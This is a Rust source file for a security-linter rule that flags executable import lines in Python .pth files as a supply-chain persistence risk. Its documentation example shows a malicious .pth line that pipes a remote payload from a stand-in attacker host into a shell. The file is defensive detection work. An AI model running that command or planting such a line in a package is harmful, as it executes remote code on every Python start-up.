use super::context;
use crate::checker::Checker;
use crate::declare_rule;
use crate::rule::Category;
use vigil_python::{Ranged, TextRange};
use vigil_report::{Confidence, Severity};

/// Reports each `import` line of a `.pth` file once (its statements
/// together): the engine hands a `.pth` file over with those lines only
/// (the others are paths).
fn check(checker: &mut Checker) {
    if !context::is_pth_file(checker) {
        return;
    }
    let mut lines: Vec<TextRange> = Vec::new();
    for stmt in checker.module_body() {
        let range = stmt.range();
        match lines.last_mut() {
            // `import os; os.system(...)`: the same line goes on.
            Some(line)
                if !checker.source[line.end().to_usize()..range.start().to_usize()]
                    .contains('\n') =>
            {
                *line = line.cover(range);
            }
            _ => lines.push(range),
        }
    }
    for line in lines {
        let code = context::short(&checker.source[line]);
        checker.report(
            &RULE,
            line,
            format!("this `.pth` file runs `{code}` every time Python starts in the environment it is installed into"),
        );
    }
}

declare_rule! {
    /// ## What it does
    /// Flags code in `.pth` files: their `import` lines run at every start of Python.
    ///
    /// `site` reads every `.pth` file in `site-packages` when the
    /// interpreter starts: a line that starts with `import` is executed,
    /// any other line is a path to add. Each such line is reported once;
    /// what it runs is also checked by the other rules.
    ///
    /// ## Why is this bad?
    /// A package that installs a `.pth` file runs its code in every Python
    /// process of the environment, before any of the user's code, even
    /// when the package itself is never imported: malicious packages use
    /// it to persist. Some legitimate tools do it too (coverage start-up,
    /// editable installs, `distutils-precedence.pth`), so the finding asks
    /// for a look at what the line does.
    ///
    /// ## Example
    /// ```python
    /// # evil.pth
    /// import os; os.system("curl -s https://payload.attacker.test/x | sh")
    /// ```
    ///
    /// ## Use instead
    /// Ship plain path lines in `.pth` files, and run start-up work from
    /// the package's own code when it is imported or called:
    /// ```python
    /// # mypackage.pth
    /// ../shared/lib
    /// ```
    ///
    /// ## References
    /// - CWE-506: Embedded Malicious Code
    /// - CWE-829: Inclusion of Functionality from Untrusted Control Sphere
    pub static RULE = {
        name: "pth-startup-code",
        category: Category::SupplyChain,
        cwe: &[506, 829],
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        bandit: &[],
        ruff: &[],
        help: "Read what the line runs: a `.pth` file should add paths, not run code, unless it belongs to a tool you know does this (coverage, an editable install).",
        on_file: check,
    };
}
